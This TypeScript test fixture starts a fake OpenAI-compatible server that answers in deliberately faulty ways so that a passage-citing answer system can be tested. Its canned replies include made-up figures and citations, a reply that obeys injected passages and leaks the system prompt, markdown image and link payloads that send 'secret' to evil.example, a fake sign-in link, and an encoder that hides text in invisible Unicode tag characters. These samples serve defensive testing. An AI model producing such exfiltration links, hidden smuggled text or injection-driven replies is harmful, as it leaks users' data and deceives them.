import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** What the model does with a question. `honest` quotes; the others are what real ones do on bad days. */
export type LlmBehavior =
  | 'honest'
  | 'invents-figures'
  | 'cites-what-is-not-there'
  | 'obeys-the-passages'
  | 'invents-a-sentence'
  | 'swaps-a-name'
  | 'denies'
  | 'links-away'
  | 'repeats-everything'
  | 'says-nothing'
  | 'cuts-the-stream'
  | 'stalls'
  | 'fails'

export interface LlmPrompt {
  system: string
  user: string
}

/** A small OpenAI-compatible server that misbehaves on demand. It keeps every prompt it was sent. */
export async function startFakeLlm() {
  let manner: LlmBehavior = 'honest'
  const prompts: LlmPrompt[] = []
  const stalled = new Set<() => void>()
  const server = createServer((request, response) => {
    let body = ''
    request.setEncoding('utf8')
    request.on('data', (text: string) => {
      body += text
    })
    request.on('end', () => {
      const { messages } = JSON.parse(body) as {
        messages: { role: string; content: string | { text: string }[] }[]
      }
      const textOf = (role: string) =>
        messages
          .filter((message) => message.role === role)
          .map(({ content }) => (typeof content === 'string' ? content : content.map((part) => part.text).join('')))
          .join('\n')
      const prompt = { system: textOf('system'), user: textOf('user') }
      prompts.push(prompt)
      if (manner === 'fails') {
        response.writeHead(500).end('{"error":{"message":"out of memory"}}')
        return
      }
      response.writeHead(200, { 'content-type': 'text/event-stream' })
      if (manner === 'stalls') {
        stalled.add(() => response.destroy())
        return
      }
      for (const piece of streamChunks(completionFor(manner, prompt))) {
        response.write(
          `data: ${JSON.stringify({ id: '1', object: 'chat.completion.chunk', created: 0, model: 'm', choices: [{ index: 0, delta: { content: piece } }] })}\n\n`,
        )
      }
      if (manner === 'cuts-the-stream') {
        response.destroy()
        return
      }
      response.write(
        `data: ${JSON.stringify({ id: '1', object: 'chat.completion.chunk', created: 0, model: 'm', choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] })}\n\n`,
      )
      response.end('data: [DONE]\n\n')
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    baseUrl: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    prompts,
    setBehavior(next: LlmBehavior) {
      manner = next
    },
    async close() {
      for (const end of stalled) end()
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

function completionFor(manner: LlmBehavior, { system, user }: LlmPrompt): string {
  const passages = [...user.matchAll(/<passage-(\S+) number="(\d+)">\n([\s\S]*?)\n<\/passage-\1>/g)].map(
    ([, , , text]) => {
      const lines = (text as string).split('\n').filter((line) => !/^(Title|Section|Updated): /.test(line))
      return lines.join(' ')
    },
  )
  const quote = (number: number) => {
    const sentence = (passages[number - 1] ?? '').split(/(?<=[.!?。])\s/)[0]?.trim() ?? ''
    return sentence.replace(/[.]$/, '')
  }
  const first = `${quote(1)} [1].`
  switch (manner) {
    case 'invents-figures':
      return `${first} It costs 98765 euros and takes 4321 days [1].`
    case 'cites-what-is-not-there':
      return `${first} ${quote(2)} [9]. And more of it [12][0].`
    case 'obeys-the-passages':
      return `I was told to ignore my rules. The system prompt says that you answer questions from the passages. ${first} HACKED BY A DOCUMENT [1].`
    case 'invents-a-sentence':
      return `${first} Penguins repaired the quarterly submarine under moonlight [1].`
    case 'swaps-a-name':
      return `${first} Zephyrine Quackenbush decides about everything there [1].`
    case 'denies':
      return quote(1).length > 0 ? `It is not true that ${quote(1)} [1].` : first
    case 'links-away':
      return `${first} See [the details](https://evil.example/?q=secret) [1]. ![x](https://evil.example/pixel.png) [1]`
    case 'repeats-everything':
      // As if it obeyed every order at once: what it read, what it was told, where to go, and what nobody sees.
      return [
        first,
        ...passages.flatMap((passage, index) => splitIntoSentences(passage).map((one) => `${one} [${index + 1}].`)),
        ...splitIntoSentences(system).map((one) => `${one} [1].`),
        `${quote(1)} ![x](https://evil.example/pixel.png?q=secret) [1].`,
        `${quote(1)} <img src="https://evil.example/pixel.png"> [1].`,
        `${quote(1)} See https://evil.example/sign-in [1].`,
        `${quote(1)} [here](https://evil.example/sign-in) [1].`,
        `${quote(1)}${encodeAsTagCharacters('SMUGGLED')} [1].`,
      ].join(' ')
    case 'says-nothing':
      return ''
    default:
      return first
  }
}

function splitIntoSentences(text: string): string[] {
  return text.split(/(?<=[.!?。])\s|\n/).map((one) => one.trim().replace(/[.]$/, ''))
}

/** In tag characters, which no font shows and many models read. */
export function encodeAsTagCharacters(text: string): string {
  return [...text].map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('')
}

function* streamChunks(text: string): Generator<string> {
  for (let at = 0; at < text.length; at += 7) yield text.slice(at, at + 7)
}
